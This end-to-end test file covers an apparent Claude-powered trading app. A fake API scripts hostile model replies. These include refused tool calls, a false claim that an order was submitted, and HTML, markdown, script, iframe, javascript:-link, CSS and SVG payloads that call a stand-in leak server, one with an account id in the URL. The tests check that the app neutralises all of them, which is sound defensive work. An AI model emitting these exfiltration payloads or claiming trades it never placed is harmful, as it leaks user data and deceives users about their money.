import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { text, toolCall } from '../fixtures/fake-anthropic/script';
import { startFakeAnthropic, type FakeAnthropic } from '../fixtures/fake-anthropic/server';
import { startRecordingServer, type RecordingServer } from '../integration/attacks/support/recording-server';
import { openApp, type AppUnderTest } from './support/app-under-test';

/**
 * The attacks of issue 12 that the person sees: the real renderer in
 * Chromium, the real backend through the harness, the real SDK against the
 * fake Messages API, and a model that does whatever it is told.
 */

const KEY = 'sk-ant-api03-e2e-attacks-0123456789abcdefghij';

describe('attacks the person sees, in Chromium', () => {
  let app: AppUnderTest;
  let fake: FakeAnthropic;
  let outside: RecordingServer;

  beforeEach(async () => {
    fake = await startFakeAnthropic({ apiKey: KEY });
    outside = await startRecordingServer();
    app = await openApp();
    await expect.poll(() => app.page.getByTestId('session-state').getAttribute('data-phase'), { timeout: 15_000 }).toBe('ready');
    // The person points Claude at the fake API (confirming the host), then types the key for it.
    // Every scripted reply here is the conversation's; the second look has its own tests (integration second-look.test.ts).
    await app.backend.handlers.updateClaudeSettings({ baseURL: fake.baseURL, secondLook: false });
    await app.page.getByTestId('claude-key').fill(KEY);
    await app.page.getByTestId('claude-key').press('Enter');
    await app.page.getByTestId('chat-input').waitFor();
  });

  afterEach(async () => {
    await app.close();
    await fake.close();
    await outside.close();
  });

  const ask = async (message: string): Promise<void> => {
    const input = app.page.getByTestId('chat-input');
    await input.fill(message);
    await input.press('Enter');
  };

  it('attack: refused and unknown tool calls are shown as refused, and a reply claiming an order was placed gets the flag', async () => {
    const { page } = app;
    const account = app.sim().accounts[0]!;
    fake.reply(
      toolCall('cancel_order', { order_id: 1 }),
      toolCall('draft_order', { account, symbol: 'SPY', sec_type: 'ETF', con_id: 756733, currency: 'EUR', side: 'BUY', quantity: 1, order_type: 'MKT', thesis: 't', risks: ['r'] }),
      text('I approved and submitted your order. It was executed at the ask.'),
    );
    await ask('Cancel everything and buy SPY');
    const log = page.getByTestId('chat-log');
    await expect.poll(() => log.textContent(), { timeout: 15_000 }).toContain('I approved and submitted your order.');
    const calls = log.getByTestId('tool-call');
    await expect.poll(() => calls.count()).toBe(2);
    expect(await calls.nth(0).getAttribute('data-outcome')).toBe('refused');
    expect(await calls.nth(0).textContent()).toContain('asked for "cancel_order", a tool Claude does not have — refused: There is no tool named "cancel_order".');
    expect(await calls.nth(1).getAttribute('data-outcome')).toBe('refused');
    expect(await calls.nth(1).textContent()).toContain('refused: no draft was created.');
    expect(await calls.nth(1).textContent()).toContain('IB lists SPY in USD, not EUR');
    expect(await log.textContent()).not.toContain('drafted BUY');
    expect(await log.getByTestId('claim-flag').textContent()).toBe('Claude cannot place orders: nothing was sent');
    expect(await page.getByTestId('draft-card').count()).toBe(0);
    expect(app.pageErrors).toEqual([]);
  });

  it('attack: markdown, HTML and image exfiltration in a reply runs and loads nothing', async () => {
    const { page } = app;
    const requests: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    const leak = outside.baseURL;
    const account = app.sim().accounts[0]!;
    const quote = app.backend.broker.portfolio()?.quotes.find((q) => q.symbol === 'AAPL');
    const markup = `<img src="${leak}/thesis-image.png"> <script>fetch('${leak}/thesis-script')</script> ![x](${leak}/thesis-md.png)`;
    fake.reply(
      toolCall('draft_order', {
        account,
        symbol: 'AAPL',
        sec_type: 'STK',
        side: 'BUY',
        quantity: 1,
        order_type: 'LMT',
        limit_price: Math.round(((quote?.bid ?? 200) - 1) * 100) / 100,
        thesis: markup,
        risks: [markup],
      }),
      text(
        [
          `![chart](${leak}/md-image.png?account=DU123)`,
          `<img src="${leak}/html-image.png" onerror="fetch('${leak}/onerror')">`,
          `<script>fetch('${leak}/script')</script>`,
          `<iframe src="${leak}/frame"></iframe>`,
          `[see your report](javascript:fetch('${leak}/js-link'))`,
          `<a href="${leak}/link">open</a> <style>@import url(${leak}/css);</style>`,
          `<svg onload="fetch('${leak}/svg')"></svg>`,
        ].join('\n\n'),
      ),
    );
    await ask('Show me a chart');
    const log = page.getByTestId('chat-log');
    await expect.poll(() => log.textContent(), { timeout: 15_000 }).toContain('md-image.png');
    // Shown as text, never as markup: nothing in the reply became an element that loads or runs.
    expect(await log.locator('img, iframe, script, svg, style, object, embed, a[href]').count()).toBe(0);
    // The thesis and risks the model wrote into the draft are text on the card too.
    const card = page.getByTestId('draft-card').first();
    await expect.poll(() => card.textContent(), { timeout: 15_000 }).toContain('thesis-image.png');
    expect(await card.locator('img, iframe, script, svg, style, object, embed, a[href]').count()).toBe(0);
    expect(requests.filter((url) => url.startsWith(leak))).toEqual([]);
    expect(outside.received).toEqual([]);
    expect(app.pageErrors).toEqual([]);
  });

  it('a reply reads as Markdown: a table is a table, raw HTML is its text, and only an allow-listed https link is a link', async () => {
    const { page } = app;
    const requests: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    const leak = outside.baseURL;
    fake.reply(
      text(
        [
          '| Symbol | Weight |',
          '| --- | ---: |',
          '| AAPL | 4.5% |',
          '| XOM | 1.2% |',
          '',
          'See [IB margin rules](https://www.interactivebrokers.com/en/trading/margin.php) and [my notes](' + leak + '/notes).',
          '',
          '<b>bold by HTML</b>',
        ].join('\n'),
      ),
    );
    await ask('Summarise my weights');
    const log = page.getByTestId('chat-log');
    await log.locator('table').waitFor({ timeout: 15_000 });
    // Before: the home-made reader printed the pipes as a paragraph.
    expect(await log.locator('table th').allTextContents()).toEqual(['Symbol', 'Weight']);
    expect(await log.locator('table tbody tr').count()).toBe(2);
    expect(await log.locator('table tbody tr').first().locator('td').allTextContents()).toEqual(['AAPL', '4.5%']);
    const links = log.locator('a[href]');
    expect(await links.count()).toBe(1);
    expect(await links.first().getAttribute('href')).toBe('https://www.interactivebrokers.com/en/trading/margin.php');
    expect(await links.first().getAttribute('target')).toBe('_blank');
    // The link to an address the shell would not open is text, with the address shown.
    expect(await log.textContent()).toContain(`my notes (${leak}/notes)`);
    expect(await log.textContent()).toContain('<b>bold by HTML</b>');
    expect(await log.locator('b').count()).toBe(0);
    expect(requests.filter((url) => url.startsWith(leak))).toEqual([]);
    expect(app.pageErrors).toEqual([]);
  });

  it('attack: a long thesis cannot push the checks, the what-if or the buttons out of view', async () => {
    const { page } = app;
    const account = app.sim().accounts[0]!;
    const quote = app.backend.broker.portfolio()?.quotes.find((q) => q.symbol === 'AAPL');
    const limit = Math.round(((quote?.bid ?? 200) - 0.5) * 100) / 100;
    const thesis = 'Apple keeps compounding and this is the moment to add more, as explained at length. '.repeat(40).slice(0, 1500);
    const risks = Array.from({ length: 8 }, (_, i) => `Risk ${i + 1}: ${'the price can fall further than expected and stay down for a long time. '.repeat(6)}`.slice(0, 300));
    fake.reply(
      toolCall('draft_order', { account, symbol: 'AAPL', sec_type: 'STK', side: 'BUY', quantity: 600, order_type: 'LMT', limit_price: limit, thesis, risks }),
      text('Drafted; it waits for you.'),
    );
    await ask('Add a lot of Apple');
    const card = page.getByTestId('draft-card').first();
    await card.waitFor({ timeout: 15_000 });
    await expect.poll(() => card.getByTestId('what-if').textContent(), { timeout: 15_000 }).toContain('commission');
    await card.evaluate((element) => element.scrollIntoView({ block: 'start' }));
    const viewport = page.viewportSize()!;
    const inView = async (selector: string): Promise<void> => {
      const boxes = await card.locator(selector).evaluateAll((elements) => elements.map((e) => {
        const rect = e.getBoundingClientRect();
        return { top: rect.top, bottom: rect.bottom };
      }));
      expect(boxes.length, selector).toBeGreaterThan(0);
      for (const box of boxes) {
        expect(box.top, `${selector} top`).toBeGreaterThanOrEqual(0);
        expect(box.bottom, `${selector} bottom`).toBeLessThanOrEqual(viewport.height);
      }
    };
    await inView('.draft-line');
    await inView('.verdict:not([data-outcome="pass"])');
    await inView('[data-testid="what-if"]');
    await inView('.draft-actions button');
    // The thesis and the risks are there, collapsed, and open with "more".
    const more = card.getByRole('button', { name: /more/ });
    expect(await more.textContent()).toContain('6 more risks');
    await more.click();
    await expect.poll(() => card.locator('.stated-risks li').count()).toBe(8);
    expect(app.pageErrors).toEqual([]);
  });
});
